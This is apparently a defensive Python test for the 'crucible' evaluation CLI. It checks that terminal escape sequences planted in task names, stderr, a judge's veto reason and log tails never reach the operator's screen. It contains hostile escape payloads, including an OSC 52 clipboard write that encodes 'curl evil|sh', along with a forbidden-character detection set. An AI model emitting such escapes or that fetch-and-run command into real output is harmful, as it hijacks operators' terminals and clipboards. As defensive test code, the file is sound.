"""Attack: terminal escapes from a sandbox, a task or a model reach the operator
(issue 23, class 7).

One real local job carries them everywhere an operator reads: a task whose folder
name sets the terminal's title (OSC 0) and clears the screen (CSI 2J); an io stage
whose submission writes an OSC 52 clipboard write and a C1 CSI (U+009B) to stderr,
which the stage's reason quotes; a judge (a real HTTP server on loopback) whose
veto reason carries OSC 52, BEL and a bidi override; and a test script that prints
them into the verifier's output (the log tails). Then every command that shows them
runs through the real CLI: `run`, `runs get -v`, `runs get --trial`, `runs logs`,
`runs list`, `report` (table and Markdown), `tasks check`. Output is not a terminal
here, so rich writes no escape of its own: any control character is the attack's.
Before the fix they were printed as they are (rich escapes markup, not controls).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from tests.helpers.fake_openai import FakeOpenAI, fake_openai, text

REPO = Path(__file__).resolve().parents[2]
OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # "copy `curl evil|sh` to the clipboard"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[31m"
C1_CSI = "\x9b2J"
BIDI = "\u202e"
# What no printed text may hold: ESC, BEL, C1 controls, DEL, the bidi overrides.
FORBIDDEN = {chr(c) for c in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]}
FORBIDDEN |= {chr(c) for c in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]}

TOML = """schema_version = "1.1"
{metadata}
[agent]
timeout_sec = 60
[verifier]
timeout_sec = 60
[environment]
network_mode = "no-network"
"""
NAMED = f"name-{TITLE}{CLEAR}x"  # the task folder's name
STDERR_PROGRAM = f"""import sys
import modal

app = modal.App("a")


@app.local_entrypoint()
def main() -> None:
    sys.stderr.write({OSC52 + C1_CSI + CLEAR!r})
    sys.exit(1)
"""
REFERENCE = "print(1)\n"


def stages(kind: str, url: str) -> str:
    head = '[metadata.crucible]\nsubmission = ["/app/main.py"]\n[[metadata.crucible.stages]]\n'
    if kind == "io":
        return head + 'kind = "io"\nreference = "tests/reference.py"\ncases = [{args = []}]\n'
    return (
        head + f'kind = "judge"\nrole = "veto"\nmodel = "m"\nbase_url = "{url}"\nmax_retries = 0\n'
    )


def hex_format(s: str) -> str:
    """`s` as a printf format of \\xHH escapes (its UTF-8 bytes): the raw bytes, printed."""
    return "".join(f"\\x{b:02x}" for b in s.encode())


def dataset(root: Path, url: str) -> Path:
    tasks = {  # folder -> (metadata, test.sh)
        NAMED: ("", "echo 1 > /logs/verifier/reward.txt"),
        "stage-reason": (stages("io", url), "echo 1 > /logs/verifier/reward.txt"),
        "judge-reason": (stages("judge", url), "echo 1 > /logs/verifier/reward.txt"),
        "log-tail": (
            "",
            f"printf '{hex_format(OSC52 + CLEAR + C1_CSI)}\\n'; echo 0 > /logs/verifier/reward.txt",
        ),
    }
    for name, (metadata, test) in tasks.items():
        task = root / name
        (task / "tests").mkdir(parents=True)
        (task / "solution").mkdir()
        (task / "task.toml").write_text(TOML.format(metadata=metadata))
        (task / "instruction.md").write_text("Do the task.\n")
        (task / "solution" / "main.py").write_text(STDERR_PROGRAM)
        (task / "solution" / "solve.sh").write_text(
            "#!/bin/bash\nmkdir -p /app && cp /solution/main.py /app/main.py\n"
        )
        (task / "tests" / "test.sh").write_text(f"#!/bin/bash\n{test}\n")
        (task / "tests" / "reference.py").write_text(REFERENCE)
    return root


def crucible(*args: str) -> str:
    env = {**os.environ, "COLUMNS": "250"}
    res = subprocess.run([sys.executable, "-m", "crucible.cli.main", *args], env=env,
                         capture_output=True, text=True, timeout=600, cwd=REPO)  # fmt: skip
    return res.stdout + res.stderr


def clean(out: str, what: str, *, payload: bool = False) -> None:
    """No control character in `out`; nor the OSC 52 payload (the sequence goes whole),
    unless `payload` (JSON keeps the text, its controls \\u-escaped)."""
    found = sorted({f"U+{ord(c):04X}" for c in out if c in FORBIDDEN})
    assert not found, f"{what} printed control characters {found}:\n{out[-3000:]!r}"
    assert payload or "52;c;" not in out, f"{what} printed an OSC 52 payload"


def test_no_control_character_reaches_the_terminal(fake_openai: FakeOpenAI, tmp_path: Path) -> None:
    veto = {"verdict": "veto", "reason": f"fake port {OSC52}{BIDI}gnp.exe {CLEAR}"}
    fake_openai.push(text(json.dumps(veto)))
    data = dataset(tmp_path / "tasks", fake_openai.url)
    jobs = str(tmp_path / "jobs")
    run = crucible("run", str(data), "--jobs-dir", jobs, "--job-name", "j", "--max-retries", "0")
    # the job ran: every carrier's record holds the raw text (the record is the evidence)
    records = {
        p.parent.name: json.loads(p.read_text()) for p in Path(jobs, "j").glob("*/result.json")
    }
    assert len(records) == 4, run
    io = records["stage-reason__0"]["verifier_result"]["stages"][-1]
    assert "\x1b]52" in io["reason"], io
    judge = records["judge-reason__0"]["verifier_result"]["stages"][-1]
    assert judge["status"] == "vetoed" and "\x1b]52" in judge["reason"], judge
    trial = next(n for n in records if n.startswith("name-"))
    clean(run, "crucible run")
    assert "fake port" in run or "stage-reason" in run  # the reasons are still shown
    for args in (
        ("runs", "get", "j", "-v"),
        ("runs", "get", "j", "--trial", "stage-reason__0"),
        ("runs", "get", "j", "--trial", "judge-reason__0"),
        ("runs", "get", "j", "--trial", trial),
        ("runs", "logs", "j"),
        ("runs", "list"),
        ("report", "j"),
        ("report", "j", "--format", "markdown"),
    ):
        out = crucible(*args, "--jobs-dir", jobs)
        clean(out, " ".join(args))
    # the text around the sequences is still shown, inert
    shown = crucible("runs", "get", "j", "--trial", "judge-reason__0", "--jobs-dir", jobs)
    assert "fake port" in shown and "gnp.exe" in shown, shown
    shown = crucible("runs", "get", "j", "--trial", "stage-reason__0", "--jobs-dir", jobs)
    assert "exited 1" in shown, shown
    assert "name-x" in run, run  # the task name, in the summary table
    clean(crucible("tasks", "check", str(data)), "tasks check")
    # --json is JSON-escaped: the controls are there, as \\u escapes only
    as_json = crucible(
        "runs", "get", "j", "--trial", "judge-reason__0", "--jobs-dir", jobs, "--json"
    )
    clean(as_json, "runs get --json", payload=True)
    assert "\\u001b]52" in as_json


__all__ = ["fake_openai"]


def test_every_cli_printer_goes_through_the_safe_console() -> None:
    """The one place: cli/common.py's SafeConsole and write_text. A command that wrote
    with print(), typer.echo, sys.stdout.write or a Console of its own would bypass it;
    only JSON (escaped by json.dumps) and the version line may go out directly."""
    import ast

    cli = REPO / "src" / "crucible" / "cli"
    direct: list[str] = []
    for path in sorted(cli.rglob("*.py")):
        if path.name == "common.py" and path.parent == cli:
            continue
        source = path.read_text()
        for node in ast.walk(ast.parse(source)):
            if not isinstance(node, ast.Call):
                continue
            call = ast.get_source_segment(source, node) or ""
            func = ast.get_source_segment(source, node.func) or ""
            if func in ("print", "typer.echo", "Console", "rich.console.Console") or func.endswith(
                ("stdout.write", "stderr.write")
            ):
                if "json.dumps(" in call or "__version__" in call:
                    continue
                direct.append(f"{path.relative_to(REPO)}:{node.lineno}: {call[:80]}")
    assert not direct, "printed past SafeConsole/write_text:\n" + "\n".join(direct)
